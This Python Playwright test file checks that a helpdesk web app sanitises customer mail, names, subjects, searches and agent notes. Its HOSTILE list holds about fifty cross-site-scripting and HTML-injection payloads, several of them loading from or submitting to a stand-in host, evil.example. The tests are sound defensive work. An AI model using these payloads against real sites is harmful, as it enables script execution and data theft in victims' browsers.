"""Mail that wants to run in an agent's browser (C1, C2, C4): shown as words, as HTML and as a file name; nothing runs, nothing is asked."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Page

from helpdesk import db
from helpdesk.actions.entries import Upload
from helpdesk.present.html import sanitise
from tests.web.browsing import anna_writes, mail_comes

pytestmark = pytest.mark.needs("chromium")

Windows = Callable[..., Page]

RUN = "window.top.hacked=1;alert(1)"
HOSTILE = [
    "<script>{run}</script>",
    "<img src=x onerror='{run}'>",
    "<svg onload='{run}'>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin='{run}' attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<math><mi xlink:href='data:x,<script>{run}</script>'>",
    "<math><annotation-xml encoding='text/html'><script>{run}</script></annotation-xml></math>",
    "<body onload='{run}'>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<a href='javascript:{run}' id=reply>click</a>",
    "<a href='JaVaScRiPt&#58;{run}'>click</a>",
    "<a href=' &#14; javascript:{run}'>click</a>",
    "<a href='vbscript:{run}'>click</a>",
    "<a href='data:text/html,<script>{run}</script>'>click</a>",
    "<form action='javascript:{run}'><button>go</button></form>",
    "<form id=reply action=https://evil.example/><input name=text></form>",
    "<input autofocus onfocus='{run}'>",
    "<details open ontoggle='{run}'>",
    "<video src=x onerror='{run}'></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<video poster=https://evil.example/p.png></video>",
    "<img src=https://evil.example/i.png srcset='https://evil.example/2.png 2x'>",
    "<picture><source srcset=https://evil.example/s.png><img src=x></picture>",
    "<table background=https://evil.example/b.png><tr><td>x</table>",
    "<div style='background:url(https://evil.example/u.png)'>x</div>",
    "<div style='background-image:\\75rl(https://evil.example/e.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999'>x</div>",
    "<style>@import 'https://evil.example/x.css'; body{{display:none}}</style>",
    "<link rel=stylesheet href=https://evil.example/l.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>",
    "<!--><script>{run}</script>-->",
    "<textarea><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "\"'><script>{run}</script>",
    "' onmouseover='{run}' x='",
    "\" autofocus onfocus=\"{run}\" x=\"",
    "{{{{ ''.__class__ }}}}{{% for x in y %}}${{run}}",
    "**[x](javascript:{run})** ![x](https://evil.example/m.png)",
    "<button hx-get=https://evil.example/ hx-trigger=load>x</button>",
    "<p hidden data-news=https://evil.example/ id=news>x</p>",
]  # fmt: skip
LETTERS = [payload.format(run=RUN) for payload in HOSTILE]


def test_nothing_in_a_mail_runs_or_is_fetched(window: Windows, database: db.Database) -> None:
    page = window()
    number = anna_writes(database, subject=LETTERS[0], name=LETTERS[1])
    for letter in LETTERS:
        mail_comes(database, number, letter, author=letter, html=sanitise(letter), files=[Upload(letter, letter, b"x")])
    page.goto(f"/cases/{number}")
    assert page.locator(".entry.in").count() == len(LETTERS) + 1
    page.evaluate("document.querySelectorAll('details').forEach((d) => (d.open = true))")
    frames = page.locator("iframe")
    for n in range(frames.count()):
        frames.nth(n).scroll_into_view_if_needed()
        frames.nth(n).content_frame.locator("body").wait_for(state="attached")
    for link in page.locator(".text a, .files a").all():
        assert not (link.get_attribute("href") or "").strip().lower().startswith(("javascript:", "vbscript:", "data:"))
    assert page.evaluate("window.hacked") is None
    assert page.locator("#reply").count() == 1
    assert page.locator("form#reply textarea[name=text]").is_visible()


def test_no_subject_name_or_search_breaks_a_list(window: Windows, database: db.Database) -> None:
    page = window()
    for n, letter in enumerate(LETTERS):
        anna_writes(database, letter, subject=letter, name=letter, address=f"eve{n}@customer.example")
    page.goto("/cases")
    assert page.locator(".queue li").count() == len(LETTERS)
    assert page.evaluate("window.hacked") is None
    for letter in LETTERS[::5]:
        page.goto(f"/cases?{urlencode({'q': letter})}")
        assert page.locator("#find").input_value() == letter
        assert page.evaluate("window.hacked") is None


def test_what_an_agent_writes_runs_no_better(window: Windows, database: db.Database) -> None:
    page = window()
    page.goto(f"/cases/{anna_writes(database)}")
    page.get_by_label("Your text", exact=True).fill("\n\n".join(LETTERS))
    page.get_by_role("button", name="Preview").click()
    page.locator("#preview .text").wait_for()
    page.get_by_label("Note, internal only").check()
    page.get_by_role("button", name="Keep the note").click()
    page.get_by_role("heading", name="Note by Bob").wait_for()
    assert page.evaluate("window.hacked") is None
